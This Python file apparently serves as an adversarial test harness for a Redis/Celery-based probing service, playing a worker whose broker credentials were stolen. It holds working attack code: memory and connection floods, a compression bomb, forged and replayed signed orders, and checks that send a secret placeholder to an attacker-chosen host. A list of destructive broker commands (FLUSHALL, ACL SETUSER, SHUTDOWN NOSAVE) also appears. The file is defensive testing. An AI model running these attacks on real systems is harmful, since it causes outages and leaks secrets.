"""Somebody who holds what a worker of one region holds: its URL of the broker, with user, password
and authority, and its state folder. A program of its own: `python attacker.py` with a JSON object
on its standard input (`url`, `state`, `host` of its own to send secrets to, `seconds`). It says
that it begins, and at the end what it did, as JSON.

It takes no account of anybody: each kind of attack is a thread with a link of its own, and goes on
until the time is over.
"""

import json
import random
import socket
import ssl
import sys
import threading
import time
import zlib
from base64 import b64decode, b64encode
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

from redis import Redis
from redis.exceptions import NoPermissionError, RedisError

REGION, OTHERS = "eu-west", ("us-east", "ap-northeast")
OWN = "eu-west-1"
REPORTS, ORDERS, ECHO = f"reports.{REGION}", f"probes.{REGION}", f"echo.{REGION}.{OWN}"
MARK = "forged by the attacker"
"""Stands in every result that it makes."""
SECRET = "${env:OUTSCOPE_SECRET_SHOP}"


class Attacker:
    """What it holds, what it learned, and what it counted."""

    def __init__(self, url: str, state: str, host: str, seconds: float) -> None:
        self.url, self.host = url, host
        self.until = time.monotonic() + seconds
        self.boots = {name.name.rpartition(".")[0] for name in Path(state).rglob("*.json")}
        self.order: dict[str, Any] | None = None
        self.signed: Any = None
        self.did: Counter[str] = Counter()
        self.refused: Counter[str] = Counter()
        self.granted: Counter[str] = Counter()

    def link(self) -> Redis:
        """A plain client of the broker."""
        return Redis.from_url(self.url, socket_timeout=10)

    def going(self) -> Iterator[int]:
        """Laps, until the time is over."""
        lap = 0
        while time.monotonic() < self.until:
            yield lap
            lap += 1

    def send(self, link: Redis, what: str, key: str, *messages: str | bytes) -> None:
        """Write messages to a key, if it may be."""
        try:
            link.lpush(key, *messages)
            self.did[what] += len(messages)
        except NoPermissionError:
            self.refused[what] += 1
        except RedisError as error:  # the broker is full, or threw us out: try again
            self.did[f"{what}: {type(error).__name__}"] += 1
            time.sleep(0.02)


def now() -> int:
    return time.time_ns() // 1_000_000


def envelope(
    argument: Any, task: str = "outscope.report", beside: Any = None, **headers: Any
) -> str:
    """A message as Celery would write it."""
    body = json.dumps([[argument], beside or {}, {"callbacks": None, "chain": None}]).encode()
    return raw(b64encode(body).decode(), task, **headers)


def raw(body: str, task: str = "outscope.report", **headers: Any) -> str:
    fixed = {"lang": "py", "task": task, "id": "1", "root_id": "1", "retries": 0}
    return json.dumps(
        {
            "body": body,
            "content-encoding": "utf-8",
            "content-type": "application/json",
            "headers": fixed | headers,
            "properties": {"body_encoding": "base64", "delivery_mode": 2, "delivery_tag": "t"},
        }
    )


def report(*rows: Any, worker: str = OWN, boot: str = "x", seq: int = 1, **fields: Any) -> str:
    told = {"v": 1, "worker": worker, "boot": boot, "seq": seq, "sent_at": now(), "rows": rows}
    return envelope(told | fields)


def row(check: str, slot: int, at: int, attempt: int = 0) -> list[Any]:
    """A look that failed."""
    times = [None, None, None, None, 5.0]
    told = [False, "refused", "target", MARK, None, *times, "127.3.0.1", {}]
    return [check, slot, attempt, at, now(), *told]


def junk(me: Attacker) -> None:
    """A byte, hundreds of thousands of times."""
    with me.link() as link:
        for _ in me.going():
            me.send(link, "junk", REPORTS, *["x"] * 10_000)
            time.sleep(0.2)


def shapes(me: Attacker) -> None:
    """What costs more to read than to write: nesting, compression, length."""
    deep = "[" * 1_000 + "]" * 1_000
    bomb = b64encode(zlib.compress(b" " * 50_000_000, 9)).decode()
    nested = b64encode(f"[[{deep}], {{}}, {{}}]".encode()).decode()
    rows = b64encode(f'[[{{"rows": [{deep}]}}], {{}}, {{}}]'.encode()).decode()
    messages = [deep, "{" * 1_000_000, raw(nested), raw(rows)]
    messages += [raw(bomb, compression=f"application/x-{kind}") for kind in ("gzip", "bzip2")]
    messages += [raw(bomb, stamps=json.loads(deep[600:1400])), raw("!"), raw(bomb)]
    with me.link() as link:
        for _ in me.going():
            me.send(link, "shapes", REPORTS, *messages)
            time.sleep(0.1)


def lumps(me: Attacker) -> None:
    """The longest messages that the broker takes, many at a time, behind ones that cost nothing."""
    lump = b"{" + b" " * 12_000_000
    with me.link() as link:
        for _ in me.going():
            me.send(link, "lumps", REPORTS, *["x"] * 5_000)
            for _ in range(15):
                me.send(link, "lumps", REPORTS, lump)
            time.sleep(2)


def floods(me: Attacker) -> None:
    """More bytes, and more envelopes that are good, than anybody takes in."""
    bytes_ = raw(b64encode(b" " * 20_000).decode())
    rubbish = report(*[[]] * 2_000)
    with me.link() as link:
        for lap in me.going():
            me.send(link, "bytes", REPORTS, *[bytes_] * 100)
            beats = [report(boot=f"b{lap}-{n}", seq=n) for n in range(200)]
            me.send(link, "envelopes", REPORTS, *beats)
            me.send(link, "rubbish", REPORTS, *[rubbish] * 5)


def listens(me: Attacker) -> None:
    """Its region's own orders and receipts, as many as it gets; an order tells it the checks."""
    with me.link() as link:
        for _ in me.going():
            try:
                found: Any = link.brpop([ORDERS, f"{ORDERS}.{OWN}"], 1)
            except RedisError:
                continue
            if found is None:
                continue
            told = json.loads(found[1])
            (argument, *_), beside, _ = json.loads(b64decode(told["body"]))
            me.did[told["headers"]["task"]] += 1
            if told["headers"]["task"] == "outscope.look":
                me.order, me.signed = argument, beside.get("signed")
                time.sleep(1)  # its workers get some, too


def forgeries(me: Attacker) -> None:
    """Results that it makes up, in the names of whom it likes."""
    with me.link() as link:
        for lap in me.going():
            time.sleep(0.1)
            names = [f"forged-{lap}-{n}" for n in range(50)]
            me.send(link, "names", REPORTS, *[report(worker=name) for name in names])
            if me.order is None:
                continue
            checks = [json.loads(text)["id"] for text in me.order["checks"]]
            for check, slot, _, at in me.order["looks"]:
                name = checks[check]
                rows = [row(name, slot, at), row(name, slot, at, attempt=7)]  # one that was due
                rows += [row(name, slot + n, at + 1_000 * n) for n in range(60, 90)]  # the future
                rows += [row(name, slot - n, at - 990 * n) for n in range(5)]  # was never due
                rows += [row(f"never-ordered-{name}", slot, at)]
                for who in (OWN, *(f"{other}-1" for other in OTHERS)):
                    me.send(link, "results", REPORTS, report(*rows, worker=who, seq=lap))
                told = {"region": random.choice(OTHERS), "queue": f"reports.{OTHERS[0]}"}
                me.send(link, "regions", REPORTS, report(*rows, worker=OWN, **told))
            for boot in me.boots:  # reports that its worker has not yet sent
                empty = [report(boot=boot, seq=n) for n in range(5)]
                me.send(link, "receipts", REPORTS, *empty)
            me.send(link, "long names", REPORTS, report(boot="b" * 1_000_000, seq=lap))


def orders(me: Attacker) -> None:
    """Orders and receipts for its own region's workers, on the only key that they read and it may
    write, and on all others.
    """
    spec = {"id": "steal", "kind": "http", "interval_ms": 1_000, "timeout_ms": 900}
    looks = {
        "secret": {"url": f"http://{me.host}/", "headers": {"authorization": SECRET}},
        "named": {"url": f"http://{me.host}/", "headers": {"host": "127.3.0.1", "x-key": SECRET}},
        "plain": {"url": f"http://{me.host}/"},
        "query": {"url": f"http://{me.host}/?key={SECRET}"},
    }
    checks = [json.dumps(spec | {"id": name, "params": params}) for name, params in looks.items()]
    receipt = {"v": 1, "worker": OWN, "at": now()}
    with me.link() as link:
        for lap in me.going():
            at = now()
            order = {"v": 1, "order": f"o{lap}", "region": REGION, "issued_at": at}
            order |= {"checks": checks, "looks": [[n, at // 1_000, 0, at] for n in range(4)]}
            signed = [
                None,
                {"to": ORDERS, "until": at + 60_000, "by": b64encode(b"s" * 64).decode()},
            ]
            signed += [me.signed] if me.signed else []  # that of a real order
            messages = [envelope(order, "outscope.look", {"signed": one}) for one in signed]
            for boot in me.boots:
                told = receipt | {"boot": boot, "seqs": list(range(100))}
                messages.append(envelope(told, "outscope.receipt"))
            if lap % 20 == 0:
                huge = receipt | {"boot": "x", "seqs": list(range(500_000))}
                messages.append(envelope(huge, "outscope.receipt"))
            keys = (ECHO, ORDERS, f"{ORDERS}.{OWN}", *(f"probes.{other}" for other in OTHERS))
            for key in keys:
                me.send(link, f"orders to {key}", key, *messages)
            time.sleep(0.25)


def fills(me: Attacker) -> None:
    """All the memory that the broker has."""
    blob = "x" * 100_000
    with me.link() as link:
        for lap in me.going():
            for number in range(100):
                me.send(link, "keys", f"echo.{REGION}.junk{lap}-{number}", blob)
            for key in (f"reports.{OTHERS[0]}", f"echo.{OTHERS[1]}.x", "own", f"probes.{REGION}.x"):
                me.send(link, f"keys {key}", key, blob)
            time.sleep(0.2)


def databases(me: Attacker) -> None:
    """Keys that it may write, in databases where nobody looks."""
    for lap in me.going():
        number = lap % 15 + 1
        try:
            with Redis.from_url(me.url.replace("/0?", f"/{number}?"), socket_timeout=10) as link:
                link.lpush(REPORTS, *["x" * 1_000_000] * 10)
            me.granted[f"database {number}"] += 1
        except NoPermissionError:
            me.refused["databases"] += 1
        except RedisError:
            me.did["databases: full"] += 1
        time.sleep(0.05)


def unfinished(me: Attacker) -> None:
    """Commands that announce half a gigabyte and never end, for which a server makes room."""
    parts = urlsplit(me.url)
    believed = ssl.create_default_context(cafile=parse_qs(parts.query)["ssl_ca_certs"][0])
    links: list[socket.socket] = []
    for _ in me.going():
        try:
            plain = socket.create_connection((parts.hostname, parts.port), timeout=5)
            link = believed.wrap_socket(plain, server_hostname=parts.hostname)
            link.sendall(f"AUTH {parts.username} {parts.password}\r\n".encode())
            link.recv(100)
            for length in (500_000_000, 15_000_000):
                start = f"*3\r\n$5\r\nLPUSH\r\n${len(REPORTS)}\r\n{REPORTS}\r\n${length}\r\n"
                link.sendall(start.encode() + b"x" * 100_000)
            links.append(link)
            me.did["unfinished"] += 1
        except OSError:
            me.did["unfinished: thrown out"] += 1
        del links[:-50]
        time.sleep(0.1)


def hoards(me: Attacker) -> None:
    """A transaction that is never carried out."""
    for _ in me.going():
        try:
            with me.link() as link:
                connection: Any = link.connection_pool.get_connection()
                connection.send_command("MULTI")
                for _ in range(300):
                    connection.send_command("LPUSH", REPORTS, "x" * 1_000_000)
                    connection.read_response()
        except (RedisError, OSError):
            me.did["hoards: thrown out"] += 1


FORBIDDEN = (
    *("KEYS *", "FLUSHALL", "FLUSHDB", "CONFIG GET *", "CONFIG SET maxmemory 1", "ACL LIST"),
    *("ACL SETUSER eu-west allkeys +@all", "SHUTDOWN NOSAVE", "DEBUG SLEEP 5", "MONITOR"),
    *(
        "EVAL return(1) 0",
        "FUNCTION LIST",
        "SCAN 0",
        "INFO",
        "CLIENT LIST",
        "CLIENT KILL TYPE normal",
    ),
    *("CLIENT PAUSE 10000", "CLIENT NO-EVICT on", "CLIENT REPLY off", "SUBSCRIBE x", "PUBLISH x y"),
    *("SAVE", "BGREWRITEAOF", "REPLICAOF 127.0.0.1 1", "SWAPDB 0 1", "WAIT 1 1000", "SLOWLOG GET"),
    *(f"DEL {REPORTS}", f"LTRIM {REPORTS} 1 0", f"RENAME {REPORTS} {REPORTS}x", f"GET {REPORTS}"),
    *(f"RPOP {REPORTS} 100", f"LRANGE {REPORTS} 0 -1", f"SET {REPORTS} x", f"DEL {ORDERS}"),
    *(f"LRANGE {ORDERS} 0 -1", f"OBJECT ENCODING {REPORTS}", f"LSET {REPORTS} 0 x"),
    *(
        f"BLMOVE {ORDERS} {ECHO} LEFT RIGHT 1",
        f"RPOPLPUSH {ORDERS} {ECHO}",
        f"COPY {ORDERS} {ECHO}",
    ),
    *(f"LPUSH reports.{other} x" for other in OTHERS),
    *(f"BRPOP probes.{other} 1" for other in OTHERS),
    *(f"BRPOP probes.{other}.{other}-1 1" for other in OTHERS),
    *(f"LPUSH probes.{other}.{other}-1 x" for other in OTHERS),
    *(f"LPUSH echo.{other}.{other}-1 x" for other in OTHERS),
    *(f"LLEN reports.{other}" for other in OTHERS),
)


def forbidden(me: Attacker) -> None:
    """What no credential of a region may do, alone and inside of a transaction."""
    with me.link() as link:
        for _ in me.going():
            for command in FORBIDDEN:
                try:
                    link.execute_command(*command.split())
                    me.granted[command] += 1
                except NoPermissionError:
                    me.refused["commands"] += 1
                except RedisError as error:
                    me.did[f"{command}: {type(error).__name__}"] += 1
            time.sleep(0.5)


QUIET = (shapes, forgeries, listens, orders, databases, forbidden)
LOUD = (junk, lumps, floods, fills, unfinished, hoards)
"""They begin later, so that what the others sent is read before all is thrown away."""
FLOODS_AFTER_S = 4.0
ATTACKS: tuple[Callable[[Attacker], None], ...] = (*QUIET, *LOUD)


def main() -> None:
    told = json.load(sys.stdin)
    only = set(told.pop("only", ())) or {attack.__name__ for attack in ATTACKS}
    me = Attacker(**told)
    print("begins", flush=True)
    threads = [
        threading.Thread(target=attack, args=(me,), name=attack.__name__)
        for attack in ATTACKS
        if attack.__name__ in only
    ]
    for thread in threads:
        thread.start()
        if thread.name == QUIET[-1].__name__:
            time.sleep(FLOODS_AFTER_S)
    for thread in threads:
        thread.join()
    print(json.dumps({"did": me.did, "refused": me.refused, "granted": me.granted}))


if __name__ == "__main__":
    main()
